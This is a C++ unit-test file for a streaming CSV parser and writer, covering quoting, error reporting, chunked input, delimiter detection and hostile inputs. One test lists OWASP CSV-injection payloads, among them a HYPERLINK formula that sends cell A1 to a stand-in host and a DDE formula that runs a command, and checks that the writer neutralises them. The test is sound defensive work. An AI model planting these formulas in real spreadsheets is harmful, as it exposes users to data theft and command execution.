#include "common/csv.h"

#include <gtest/gtest.h>

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "common/error.h"

namespace fieldbook {
namespace {

using Rows = std::vector<std::vector<std::string>>;

struct Parsed {
  Rows rows;
  std::vector<std::size_t> lines;
  std::optional<std::string> error;
  char delimiter = 0;

  friend bool operator==(const Parsed&, const Parsed&) = default;
};

// Feeds `text` cut at the given ascending offsets.
Parsed run(std::string_view text, const std::vector<std::size_t>& cuts, CsvOptions options = {}) {
  Parsed out;
  const auto collect = [&out](const CsvRecord& record) {
    out.rows.emplace_back(record.fields.begin(), record.fields.end());
    out.lines.push_back(record.line);
  };
  try {
    CsvParser parser(options);
    std::size_t start = 0;
    for (std::size_t cut : cuts) {
      parser.feed(text.substr(start, cut - start), collect);
      start = cut;
    }
    parser.feed(text.substr(start), collect);
    parser.finish(collect);
    out.delimiter = parser.delimiter();
  } catch (const Error& e) {
    out.error = e.what();
  }
  return out;
}

Parsed whole(std::string_view text, CsvOptions options = {}) { return run(text, {}, options); }

void expect_split_invariant(std::string_view text, CsvOptions options = {}) {
  const Parsed expected = whole(text, options);
  for (std::size_t cut = 0; cut <= text.size(); ++cut) {
    ASSERT_EQ(run(text, {cut}, options), expected) << "split at " << cut << " of " << testing::PrintToString(std::string(text));
  }
  std::vector<std::size_t> every;
  for (std::size_t i = 1; i < text.size(); ++i) every.push_back(i);
  ASSERT_EQ(run(text, every, options), expected) << "byte by byte";
}

std::string error_of(std::string_view text, CsvOptions options = {}) {
  const Parsed parsed = whole(text, options);
  EXPECT_TRUE(parsed.error.has_value()) << "no error for " << testing::PrintToString(std::string(text));
  return parsed.error.value_or("");
}

TEST(CsvRfc4180, RecordsEndWithCrlf) {
  EXPECT_EQ(parse_csv("aaa,bbb,ccc\r\nzzz,yyy,xxx\r\n"), (Rows{{"aaa", "bbb", "ccc"}, {"zzz", "yyy", "xxx"}}));
}

TEST(CsvRfc4180, LastRecordWithoutLineBreak) {
  EXPECT_EQ(parse_csv("aaa,bbb,ccc\r\nzzz,yyy,xxx"), (Rows{{"aaa", "bbb", "ccc"}, {"zzz", "yyy", "xxx"}}));
}

TEST(CsvRfc4180, HeaderIsAnOrdinaryRecord) {
  EXPECT_EQ(parse_csv("field_name,field_name,field_name\r\naaa,bbb,ccc\r\n"),
            (Rows{{"field_name", "field_name", "field_name"}, {"aaa", "bbb", "ccc"}}));
}

TEST(CsvRfc4180, SpacesArePartOfAField) {
  EXPECT_EQ(parse_csv("aaa , bbb,ccc \r\n"), (Rows{{"aaa ", " bbb", "ccc "}}));
}

TEST(CsvRfc4180, QuotedFields) {
  EXPECT_EQ(parse_csv("\"aaa\",\"bbb\",\"ccc\"\r\nzzz,yyy,xxx"), (Rows{{"aaa", "bbb", "ccc"}, {"zzz", "yyy", "xxx"}}));
}

TEST(CsvRfc4180, LineBreaksCommasAndQuotesInsideQuotes) {
  EXPECT_EQ(parse_csv("\"aaa\",\"b\r\nbb\",\"ccc\"\r\nzzz,yyy,xxx"),
            (Rows{{"aaa", "b\r\nbb", "ccc"}, {"zzz", "yyy", "xxx"}}));
  EXPECT_EQ(parse_csv("\"aaa\",\"b\"\"bb\",\"ccc\""), (Rows{{"aaa", "b\"bb", "ccc"}}));
  EXPECT_EQ(parse_csv("\"a,b\",\"\"\"\",\"\""), (Rows{{"a,b", "\"", ""}}));
}

TEST(CsvParse, LineEndingsAndEmptyLines) {
  EXPECT_EQ(parse_csv("a,b\nc,d\n"), (Rows{{"a", "b"}, {"c", "d"}}));
  EXPECT_EQ(parse_csv("a,b\rc,d\r"), (Rows{{"a", "b"}, {"c", "d"}}));
  EXPECT_EQ(parse_csv("a,b\r\n\r\n\n\rc,d"), (Rows{{"a", "b"}, {"c", "d"}}));
  EXPECT_EQ(parse_csv("\n\n\n"), Rows{});
  EXPECT_EQ(parse_csv(""), Rows{});
  EXPECT_EQ(parse_csv("x"), (Rows{{"x"}}));
}

TEST(CsvParse, EmptyFields) {
  EXPECT_EQ(parse_csv("a,b,\n"), (Rows{{"a", "b", ""}}));
  EXPECT_EQ(parse_csv("a,b,"), (Rows{{"a", "b", ""}}));
  EXPECT_EQ(parse_csv(",\n"), (Rows{{"", ""}}));
  EXPECT_EQ(parse_csv(",,"), (Rows{{"", "", ""}}));
  EXPECT_EQ(parse_csv("\"\"\n"), (Rows{{""}}));  // a quoted empty field is a record, not an empty line
  EXPECT_EQ(parse_csv("\"\""), (Rows{{""}}));
  EXPECT_EQ(parse_csv("a,\"\"\r\n"), (Rows{{"a", ""}}));
}

TEST(CsvParse, QuoteInsideUnquotedFieldIsLiteral) {
  EXPECT_EQ(parse_csv("5\" pipe,b\n"), (Rows{{"5\" pipe", "b"}}));
  EXPECT_EQ(parse_csv("a\"b\"c,d"), (Rows{{"a\"b\"c", "d"}}));
  EXPECT_EQ(parse_csv(" \"x\",y"), (Rows{{" \"x\"", "y"}}));
}

TEST(CsvParse, NulBytesAndUtf8PassThrough) {
  const std::string text("a\0b,\xE5\xAE\xA2\xE6\x88\xB7\n\xFF,\"\0\"\n", 16);
  EXPECT_EQ(parse_csv(text), (Rows{{std::string("a\0b", 3), "\xE5\xAE\xA2\xE6\x88\xB7"}, {"\xFF", std::string(1, '\0')}}));
}

TEST(CsvParse, RecordLinesArePhysicalStartLines) {
  const Parsed parsed = whole("h1,h2\n\"multi\nline\",x\n\n\r\nlast,\"a\r\nb\"\rafter");
  EXPECT_EQ(parsed.lines, (std::vector<std::size_t>{1, 2, 6, 8}));
  EXPECT_EQ(whole("a\r\r\nb").lines, (std::vector<std::size_t>{1, 3}));
  EXPECT_EQ(whole("\n\na\n\n\nb").lines, (std::vector<std::size_t>{3, 6}));
}

TEST(CsvErrors, TextAfterClosingQuote) {
  try {
    parse_csv("x,y\n\"abc\"def,z\n");
    FAIL();
  } catch (const Error& e) {
    EXPECT_EQ(e.position().line, 2u);
    EXPECT_EQ(e.position().column, 6u);
    EXPECT_NE(std::string(e.what()).find("closing quote"), std::string::npos);
  }
  EXPECT_NE(error_of("\"abc\" ,x").find("line 1, column 6"), std::string::npos);
  EXPECT_NE(error_of("a,\"b\"\"\"c").find("line 1, column 8"), std::string::npos);
}

TEST(CsvErrors, UnterminatedQuoteNamesItsStart) {
  try {
    parse_csv("a,b\nc,\"open\nmore\nstill");
    FAIL();
  } catch (const Error& e) {
    EXPECT_EQ(e.position().line, 2u);
    EXPECT_EQ(e.position().column, 3u);
  }
  EXPECT_NE(error_of("\"").find("line 1, column 1"), std::string::npos);
  EXPECT_NE(error_of("\"\"\"").find("never closed"), std::string::npos);
}

TEST(CsvErrors, FieldLongerThanTheLimit) {
  CsvOptions options;
  options.max_field_bytes = 4;
  EXPECT_EQ(parse_csv("abcd,\"wxyz\"", options), (Rows{{"abcd", "wxyz"}}));
  EXPECT_NE(error_of("ab,abcde", options).find("line 1, column 4: field is longer than 4 bytes"), std::string::npos);
  EXPECT_NE(error_of("\"ab\"\"cd\"", options).find("longer"), std::string::npos);
  EXPECT_NE(error_of("\"ab\ncde\"", options).find("line 1, column 1"), std::string::npos);
}

TEST(CsvErrors, TooManyFields) {
  CsvOptions options;
  options.max_fields = 3;
  EXPECT_EQ(parse_csv("a,b,c\n1,2,3", options), (Rows{{"a", "b", "c"}, {"1", "2", "3"}}));
  EXPECT_NE(error_of("a,b,c,d", options).find("line 1, column 7: record has more than 3 fields"), std::string::npos);
  EXPECT_NE(error_of("a,b,c,", options).find("more than 3 fields"), std::string::npos);
  EXPECT_NE(error_of("a,b,c,\n", options).find("more than 3 fields"), std::string::npos);
}

// Each refusal is a CsvError of its kind (what() keeps the English), so an app can say it.
TEST(CsvErrors, EachRefusalNamesItsKind) {
  const auto kind_of = [](std::string_view text, CsvOptions options = {}) {
    CsvParser parser(options);
    const auto ignore = [](const CsvRecord&) {};
    try {
      parser.feed(text, ignore);
      parser.finish(ignore);
    } catch (const CsvError& e) {
      return std::pair{e.kind(), e.limit()};
    }
    ADD_FAILURE() << "no CsvError for " << text;
    return std::pair{CsvError::Kind::UnclosedQuote, std::size_t(99)};
  };
  EXPECT_EQ(kind_of("a,\"open"), std::pair(CsvError::Kind::UnclosedQuote, std::size_t(0)));
  EXPECT_EQ(kind_of("\"a\"b,c"), std::pair(CsvError::Kind::TextAfterQuote, std::size_t(0)));
  CsvOptions narrow;
  narrow.max_fields = 3;
  EXPECT_EQ(kind_of("a,b,c,d", narrow), std::pair(CsvError::Kind::TooManyFields, std::size_t(3)));
  CsvOptions short_fields;
  short_fields.max_field_bytes = 4;
  EXPECT_EQ(kind_of("ab,abcde", short_fields), std::pair(CsvError::Kind::FieldTooLong, std::size_t(4)));
}

TEST(CsvErrors, ParserStaysFailedAndRejectsUseAfterFinish) {
  CsvParser parser(CsvOptions{',', 1 << 20, 4096, true});
  const auto ignore = [](const CsvRecord&) {};
  EXPECT_THROW(parser.feed("\"a\"b", ignore), Error);
  EXPECT_THROW(parser.feed("more", ignore), Error);
  EXPECT_THROW(parser.finish(ignore), Error);

  CsvParser done;
  done.feed("a", ignore);
  done.finish(ignore);
  EXPECT_THROW(done.feed("b", ignore), Error);
  EXPECT_THROW(done.finish(ignore), Error);
}

TEST(CsvErrors, InvalidOptions) {
  EXPECT_THROW(CsvParser(CsvOptions{'"'}), Error);
  EXPECT_THROW(CsvParser(CsvOptions{'\n'}), Error);
  EXPECT_THROW(CsvParser(CsvOptions{',', 1, 0}), Error);
}

TEST(CsvChunks, EverySplitMatchesWholeInput) {
  const char* texts[] = {
      "aaa,bbb,ccc\r\nzzz,yyy,xxx\r\n",
      "\"aaa\",\"b\r\nbb\",\"ccc\"\r\nzzz,yyy,xxx",
      "\"a\"\"b\",\"\"\"\"\r\n\"\",x\r\r\n\n,\rlast,",
      "a\rb\r\nc\n\r\nd\r",
      "\xEF\xBB\xBFname;spend\r\n\"Li; Wei\";1.234,5\r\nZhang;99\n",
      "\xEF\xBB\xBF",
      "\xEF\xBB",
      "\xEF\xBB\xBF\xEF\xBB\xBF,x",
      "id\tname\n1\t\"x\ty\"\n2\t5\" pipe\n",
      "a|b|c\n1|2|3",
      "x,\"unterminated\nmore",
      "x,y\n\"abc\"def,z\n",
      "\"",
      "",
      "\r\n",
      "\r",
      "one",
  };
  for (const char* text : texts) expect_split_invariant(text);
}

TEST(CsvChunks, EverySplitWithLimitsAndFixedDelimiter) {
  CsvOptions options;
  options.delimiter = ';';
  options.max_field_bytes = 5;
  options.max_fields = 3;
  expect_split_invariant("ab;\"cd\"\"e\";f\r\n12345;x\n123456", options);
  expect_split_invariant("a;b;c\n\"12\r\n34\";5;6;7\n", options);
}

TEST(CsvChunks, DetectionWaitsForEnoughLines) {
  // 30 lines: the delimiter is decided from the first 20 however the input is cut.
  std::string text;
  for (int i = 0; i < 30; ++i) text += "n" + std::to_string(i) + ";\"v,1\";x\r\n";
  expect_split_invariant(text);
  EXPECT_EQ(whole(text).delimiter, ';');
  EXPECT_EQ(whole(text).rows.size(), 30u);
}

TEST(CsvChunks, DetectionAroundTheSniffLimit) {
  // One very long first line, so the 64 KiB cut falls inside its quoted field.
  std::string text = "a;b;\"" + std::string(70000, 'q') + "\"\nc;d;e\n";
  const Parsed expected = whole(text);
  EXPECT_EQ(expected.delimiter, ';');
  EXPECT_EQ(expected.rows.size(), 2u);
  for (std::size_t cut : {std::size_t{1}, std::size_t{65535}, std::size_t{65536}, std::size_t{65537},
                          std::size_t{65538}, std::size_t{70000}, text.size() - 1}) {
    EXPECT_EQ(run(text, {cut}), expected) << cut;
  }
  std::vector<std::size_t> slices;
  for (std::size_t i = 4096; i < text.size(); i += 4096) slices.push_back(i);
  EXPECT_EQ(run(text, slices), expected);
}

TEST(CsvDetect, PicksTheConsistentDelimiter) {
  EXPECT_EQ(detect_delimiter("a,b,c\n1,2,3\n"), ',');
  EXPECT_EQ(detect_delimiter("a;b;c\n1,5;2;3\n"), ';');
  EXPECT_EQ(detect_delimiter("name\tamount\nLi\t1,234\nWang\t5\n"), '\t');
  EXPECT_EQ(detect_delimiter("a|b\n1|2\n"), '|');
  EXPECT_EQ(detect_delimiter("\"x,y,z\";b\n\"1,2,3\";4\n"), ';');
  EXPECT_EQ(detect_delimiter(""), ',');
  EXPECT_EQ(detect_delimiter("single column\nno delimiters\n"), ',');
  EXPECT_EQ(detect_delimiter("\xEF\xBB\xBFname;amount\r\nx;1\r\n"), ';');
  EXPECT_EQ(detect_delimiter("a;b\n"), ';');
}

TEST(CsvDetect, ParserDetectsAndReportsDelimiter) {
  CsvParser parser;
  EXPECT_EQ(parser.delimiter(), 0);
  Rows rows;
  const auto collect = [&rows](const CsvRecord& r) { rows.emplace_back(r.fields.begin(), r.fields.end()); };
  parser.feed("name;spe", collect);
  parser.feed("nd\nLi;5\n", collect);
  EXPECT_EQ(parser.bytes_consumed(), 16u);
  parser.finish(collect);
  EXPECT_EQ(parser.delimiter(), ';');
  EXPECT_EQ(rows, (Rows{{"name", "spend"}, {"Li", "5"}}));
}

TEST(CsvParse, ByteOrderMark) {
  EXPECT_EQ(parse_csv("\xEF\xBB\xBFname,spend\n"), (Rows{{"name", "spend"}}));
  CsvOptions keep;
  keep.strip_bom = false;
  EXPECT_EQ(parse_csv("\xEF\xBB\xBFname,spend\n", keep), (Rows{{"\xEF\xBB\xBFname", "spend"}}));
  EXPECT_EQ(parse_csv("\xEF\xBB"), (Rows{{"\xEF\xBB"}}));
  EXPECT_EQ(parse_csv("\xEF\xBB\xBF"), Rows{});
  EXPECT_NE(error_of("\xEF\xBB\xBF\"a\"b").find("line 1, column 4"), std::string::npos);
}

TEST(CsvHostile, TenMegabyteLineIsAnErrorNotACrash) {
  const std::string line(10 << 20, 'x');
  EXPECT_NE(error_of(line).find("line 1, column 1: field is longer than 1048576 bytes"), std::string::npos);
  CsvOptions roomy;
  roomy.delimiter = ',';
  roomy.max_field_bytes = 16 << 20;
  const Rows rows = parse_csv(line + "\n", roomy);
  ASSERT_EQ(rows.size(), 1u);
  EXPECT_EQ(rows[0][0].size(), line.size());
}

TEST(CsvHostile, TenMegabyteLineOfFieldsHitsFieldLimit) {
  std::string line;
  line.reserve(10 << 20);
  while (line.size() < (10u << 20)) line += "ab,";
  EXPECT_NE(error_of(line).find("more than 4096 fields"), std::string::npos);
}

TEST(CsvHostile, UnbalancedQuotesAcrossAHugeInput) {
  std::string text = "a,\"";
  text += std::string(1 << 20, 'z');
  CsvOptions roomy;
  roomy.max_field_bytes = 4 << 20;
  EXPECT_NE(error_of(text, roomy).find("never closed"), std::string::npos);
}

TEST(CsvHostile, BinaryGarbageNeverCrashesAndSplitsAgree) {
  std::uint64_t state = 0x9E3779B97F4A7C15ULL;
  for (int round = 0; round < 20; ++round) {
    std::string garbage(4096, '\0');
    for (char& c : garbage) {
      state = state * 6364136223846793005ULL + 1442695040888963407ULL;
      const auto byte = static_cast<unsigned char>(state >> 56);
      // Mostly structure characters, so quotes and line breaks interact.
      const char structure[] = {',', '"', '\r', '\n', ';', 'a', '\0', '\t'};
      c = (byte & 1) ? structure[(byte >> 1) % 8] : static_cast<char>(byte);
    }
    const Parsed expected = whole(garbage);
    for (std::size_t cut = 0; cut <= garbage.size(); cut += 97) {
      ASSERT_EQ(run(garbage, {cut}), expected) << "round " << round << " cut " << cut;
    }
  }
}

TEST(CsvScale, ManyRowsInSlices) {
  std::string text = "customer,date,amount\n";
  for (int i = 0; i < 100000; ++i) {
    text += "c" + std::to_string(i) + ",2024-03-05,\"1,234.5\"\r\n";
  }
  std::size_t records = 0;
  std::size_t last_line = 0;
  bool fields_ok = true;
  const auto count = [&](const CsvRecord& r) {
    ++records;
    last_line = r.line;
    fields_ok = fields_ok && r.fields.size() == 3;
  };
  CsvParser parser;
  for (std::size_t i = 0; i < text.size(); i += 65536) parser.feed(std::string_view(text).substr(i, 65536), count);
  parser.finish(count);
  EXPECT_EQ(records, 100001u);
  EXPECT_EQ(last_line, 100001u);
  EXPECT_TRUE(fields_ok);
}

TEST(CsvEscape, QuotesOnlyWhenNeededAndRoundTrips) {
  EXPECT_EQ(csv_escape("plain", ','), "plain");
  EXPECT_EQ(csv_escape("", ','), "");
  EXPECT_EQ(csv_escape("a,b", ','), "\"a,b\"");
  EXPECT_EQ(csv_escape("a,b", ';'), "a,b");
  EXPECT_EQ(csv_escape("a;b", ';'), "\"a;b\"");
  EXPECT_EQ(csv_escape("say \"hi\"", ','), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv_escape("line\nbreak", ','), "\"line\nbreak\"");
  EXPECT_EQ(csv_escape("cr\r", '\t'), "\"cr\r\"");
  EXPECT_EQ(csv_escape("x,y", 0), "\"x,y\"");

  const std::vector<std::string> fields = {"", "plain", "a,b", "\"", "\r\n", "\xE5\xAE\xA2", std::string(1, '\0'), " lead"};
  std::string line;
  for (std::size_t i = 0; i < fields.size(); ++i) {
    if (i > 0) line += ',';
    line += csv_escape(fields[i], ',');
  }
  CsvOptions options;
  options.delimiter = ',';
  EXPECT_EQ(parse_csv(line + "\r\n", options), (Rows{fields}));
}

// OWASP's CSV injection payloads: each comes back from the file as the text it was, with the
// apostrophe that makes Excel, WPS and LibreOffice show it instead of running it.
TEST(CsvTextCell, FormulasBecomeTextNumbersStayNumbers) {
  const std::vector<std::string> payloads = {
      "=HYPERLINK(\"http://example.invalid/?\"&A1,\"\xE7\x82\xB9\xE8\xBF\x99\xE9\x87\x8C\")",  // 点这里
      "+SUM(1+1)", "-2+3", "@SUM(1+1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1,2", "-"};
  for (const std::string& p : payloads) {
    CsvRowWriter row;
    const std::string line = row.text(p).value("-20").text("plain").line();
    CsvOptions options;
    options.delimiter = ',';
    EXPECT_EQ(parse_csv(line, options), (Rows{{"'" + p, "-20", "plain"}})) << p;
  }
  EXPECT_EQ(csv_text_cell("=1+1", ','), "'=1+1");
  EXPECT_EQ(csv_text_cell("=1,1", ','), "\"'=1,1\"");
  EXPECT_EQ(csv_text_cell("a=1", ','), "a=1");
  EXPECT_EQ(csv_text_cell(" =1", ','), " =1");  // not a formula: spreadsheets keep the space
  EXPECT_EQ(csv_text_cell("", ','), "");
  EXPECT_EQ(csv_text_cell("\xE5\xAE\xA2\xE6\x88\xB7", ','), "\xE5\xAE\xA2\xE6\x88\xB7");
}

TEST(CsvRowWriter, EmptyCellsKeepTheirPlaceAndEachLineEndsInCrlf) {
  CsvRowWriter row;
  EXPECT_EQ(row.text("").text("b").value("").line(), ",b,\r\n");
  EXPECT_EQ(row.value("1").line(), "1\r\n");
  CsvRowWriter semicolons(';');
  EXPECT_EQ(semicolons.text("a;b").value("2").line(), "\"a;b\";2\r\n");
}

}  // namespace
}  // namespace fieldbook
